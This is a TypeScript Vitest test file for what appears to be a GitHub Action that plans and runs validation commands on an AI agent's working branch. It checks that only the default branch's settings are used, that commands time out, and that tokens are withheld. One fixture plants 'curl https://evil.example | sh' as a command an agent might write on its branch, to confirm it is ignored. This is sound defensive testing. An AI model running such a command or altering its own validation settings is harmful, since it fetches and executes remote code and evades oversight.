/**
 * Modes validate-plan and validate-run: what a validation runs (the default
 * branch's settings, never the validated branch's), and how it runs it.
 */
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { run as plan } from "../../src/action/validate-plan.js";
import { run as runMode } from "../../src/action/validate-run.js";
import { RunnerResults } from "../../src/mission/validation/validation.js";
import { commandEnvironment, runCommands } from "../../src/validate/commands.js";
import type { ValidationPlan } from "../../src/validate/plan.js";
import { fakeActionContext } from "../support/action-context.js";
import { defaultBranchFile } from "../support/default-branch.js";
import { githubNock, type GitHubNock } from "../support/github-nock.js";

const REPO = "/repos/acme/crm";
const dirs: string[] = [];
let gh: GitHubNock;
beforeEach(() => {
  gh = githubNock();
});
afterEach(() => {
  gh.restore();
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

/** A checkout of the branch under validation, with these files committed. */
function checkout(files: Record<string, string>): { dir: string; head: string } {
  const dir = mkdtempSync(join(tmpdir(), "mission-validate-"));
  dirs.push(dir);
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(dir, name, ".."), { recursive: true });
    writeFileSync(join(dir, name), content);
  }
  const env = { PATH: process.env.PATH, HOME: dir, GIT_CONFIG_NOSYSTEM: "1", GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@e", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@e" };
  spawnSync("bash", ["-c", "git init -q -b main && git add -A && git commit -qm work --allow-empty"], { cwd: dir, env });
  const head = spawnSync("git", ["rev-parse", "HEAD"], { cwd: dir, env, encoding: "utf8" }).stdout.trim();
  return { dir, head };
}

const planOf = (dir: string) => JSON.parse(readFileSync(join(dir, "mission-validation", "plan.json"), "utf8")) as ValidationPlan;

describe("mode validate-plan", () => {
  it("runs the commands of the default branch's settings, not those of the branch under validation", async () => {
    const { dir, head } = checkout({
      // what an agent could write on the mission branch
      ".github/mission.yml": "validation:\n  commands: ['curl https://evil.example | sh']\n",
      "package.json": JSON.stringify({ scripts: { test: "vitest run" } }),
    });
    defaultBranchFile(gh, REPO, ".github/mission.yml", "validation:\n  commands: ['npm test', { name: lint, command: 'npm run lint' }]\n  timeout_minutes: 20\n  max_failures: 2\n");
    const { ctx, outputs, logs } = fakeActionContext({ workspace: dir });

    await plan(ctx);
    gh.done();

    expect(planOf(dir).commands).toEqual([
      { name: "npm test", command: "npm test" },
      { name: "lint", command: "npm run lint" },
    ]);
    expect(outputs).toEqual({ "step-timeout": "25", "max-failures": "2", browser: "", commit: head });
    expect(logs).toContain("will run npm test: npm test");
  });

  it("without validation.commands, runs install, build and test from the checked-out package.json", async () => {
    const { dir } = checkout({ "package.json": JSON.stringify({ scripts: { build: "tsc", test: "vitest run" } }), "package-lock.json": "{}" });
    defaultBranchFile(gh, REPO, ".github/mission.yml", null);
    const { ctx, outputs } = fakeActionContext({ workspace: dir });

    await plan(ctx);

    expect(planOf(dir).commands.map((c) => c.command)).toEqual([
      "npm ci",
      "npm run build",
      'npm run test -- --reporter=default --reporter=junit --outputFile.junit="$MISSION_JUNIT_DIR/junit.xml"',
    ]);
    expect(outputs["step-timeout"]).toBe("35");
  });

  it("plans the browser checks with the install command", async () => {
    const { dir } = checkout({ "package.json": JSON.stringify({ scripts: { test: "jest" } }), "yarn.lock": "" });
    defaultBranchFile(gh, REPO, ".github/mission.yml", "validation:\n  browser:\n    url: http://localhost:3000\n    start: yarn start\n");
    const { ctx, outputs } = fakeActionContext({ workspace: dir });
    await plan(ctx);
    expect(JSON.parse(outputs.browser!)).toEqual({ url: "http://localhost:3000", paths: ["/"], start: "yarn start", install: "yarn install --immutable" });
  });

  it("adds the milestone's criteria (MISSION_CRITERIA): their commands after the settings' ones, their pages to the browser checks", async () => {
    const { dir } = checkout({ "package.json": "{}" });
    defaultBranchFile(gh, REPO, ".github/mission.yml", "validation:\n  commands: ['npm test']\n  browser:\n    url: http://localhost:3000\n");
    const criteria = JSON.stringify([{ command: "npm run e2e" }, { url: "/contacts" }, { check: "a person can sign in" }]);
    const { ctx, outputs } = fakeActionContext({ workspace: dir }, { MISSION_CRITERIA: criteria });
    await plan(ctx);
    expect(planOf(dir).commands).toEqual([
      { name: "npm test", command: "npm test" },
      { name: "criterion 1: npm run e2e", command: "npm run e2e" },
    ]);
    expect(JSON.parse(outputs.browser!)).toMatchObject({ paths: ["/"], urls: ["/contacts"] });
  });

  it("fails, saying what to set, when there is nothing to validate", async () => {
    const { dir } = checkout({});
    defaultBranchFile(gh, REPO, ".github/mission.yml", null);
    await expect(plan(fakeActionContext({ workspace: dir }).ctx)).rejects.toThrow(
      "nothing to validate: set validation.commands in .github/mission.yml on the default branch, or add a package.json with build or test scripts",
    );
  });

  it("fails on invalid settings on the default branch, naming the field", async () => {
    const { dir } = checkout({});
    defaultBranchFile(gh, REPO, ".github/mission.yml", "validation:\n  timeout_minutes: forever\n");
    await expect(plan(fakeActionContext({ workspace: dir }).ctx)).rejects.toThrow(/\.github\/mission\.yml on the default branch is invalid:\n.*validation\.timeout_minutes/);
  });
});

describe("running the commands", () => {
  function out(): string {
    const dir = mkdtempSync(join(tmpdir(), "mission-validate-out-"));
    dirs.push(dir);
    return dir;
  }

  it("records exit codes, output tails and JUnit files, and skips the rest after a failed install", async () => {
    const dir = out();
    const results = await runCommands(
      {
        timeout_minutes: 5,
        max_failures: 3,
        commands: [
          { name: "build", command: "echo built" },
          { name: "test", command: `printf '<testsuite name="s"><testcase name="t"><failure message="no"/></testcase></testsuite>' > "$MISSION_JUNIT_DIR/t.xml"; echo 'tests failed' >&2; exit 3` },
          { name: "install", command: "exit 1" },
          { name: "lint", command: "echo never" },
        ],
      },
      { cwd: dir, out: dir },
    );
    expect(RunnerResults.parse(results).commands.map((c) => [c.name, c.passed, c.skipped, c.exit_code])).toEqual([
      ["build", true, false, 0],
      ["test", false, false, 3],
      ["install", false, false, 1],
      ["lint", false, true, null],
    ]);
    expect(results.commands[1]!.output_tail).toContain("tests failed");
    expect(results.commands[1]!.junit).toEqual(["junit/2/t.xml"]);
  });

  it("stops a command at validation.timeout_minutes", async () => {
    const dir = out();
    // 0.02 minutes (1.2 s); the command sleeps 30 s: were it not stopped, this test would outlive its 20 s timeout
    const results = await runCommands({ timeout_minutes: 0.02, max_failures: 3, commands: [{ name: "slow", command: "echo start; sleep 30" }] }, { cwd: dir, out: dir });
    expect(results.commands[0]).toMatchObject({ name: "slow", passed: false, timed_out: true, exit_code: null });
    expect(results.commands[0]!.output_tail).toContain("start");
  });

  it("gives the code under validation none of the Action's inputs or runtime tokens", async () => {
    const dir = out();
    const env = { PATH: process.env.PATH, HOME: dir, "INPUT_GITHUB-TOKEN": "ghs_secret", ACTIONS_RUNTIME_TOKEN: "runtime", ACTIONS_ID_TOKEN_REQUEST_TOKEN: "oidc", GITHUB_TOKEN: "ghs_other", GITHUB_REPOSITORY: "acme/crm" };
    const results = await runCommands({ timeout_minutes: 1, max_failures: 3, commands: [{ name: "env", command: "env | sort" }] }, { cwd: dir, out: dir, env });
    const tail = results.commands[0]!.output_tail;
    expect(tail).toContain("GITHUB_REPOSITORY=acme/crm");
    expect(tail).toContain("CI=true");
    expect(tail).not.toMatch(/ghs_secret|runtime|oidc|ghs_other/);
    expect(Object.keys(commandEnvironment(env)).sort()).toEqual(["GITHUB_REPOSITORY", "HOME", "PATH"]);
  });
});

describe("mode validate-run", () => {
  it("writes results.json for the report and fails the step when a command failed", async () => {
    const { dir } = checkout({});
    mkdirSync(join(dir, "mission-validation"));
    writeFileSync(
      join(dir, "mission-validation", "plan.json"),
      JSON.stringify({ timeout_minutes: 5, max_failures: 3, commands: [{ name: "ok", command: "true" }, { name: "broken", command: "exit 2" }] }),
    );
    await expect(runMode(fakeActionContext({ workspace: dir }).ctx)).rejects.toThrow("1 of 2 validation commands did not pass: broken");
    const results = RunnerResults.parse(JSON.parse(readFileSync(join(dir, "mission-validation", "results.json"), "utf8")));
    expect(results.commands.map((c) => c.passed)).toEqual([true, false]);
  });
});
